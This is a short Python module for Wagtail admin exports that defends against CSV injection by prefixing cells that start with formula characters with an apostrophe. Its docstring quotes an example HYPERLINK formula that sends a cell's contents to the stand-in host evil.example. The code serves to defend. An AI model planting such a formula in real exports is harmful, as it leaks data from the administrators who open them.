"""Spreadsheet exports that cannot run formulas ("CSV injection").

A cell that starts with =, +, -, @, a tab or a carriage return is read as a formula by Excel and LibreOffice, so a
name such as `=HYPERLINK("http://evil.example/?"&A1, "Click")` would act when an administrator opens the export.
Such text is prefixed with an apostrophe, which spreadsheets show as plain text (OWASP's advice).
"""

from wagtail.admin.views.generic import IndexView

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """`value` as spreadsheet text that is never a formula; anything but a string is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeExportIndexView(IndexView):
    """A Wagtail listing whose CSV and XLSX exports neutralise formulas in every cell."""

    def preprocess_field_value(self, field, value, export_format):
        return neutralise(super().preprocess_field_value(field, value, export_format))
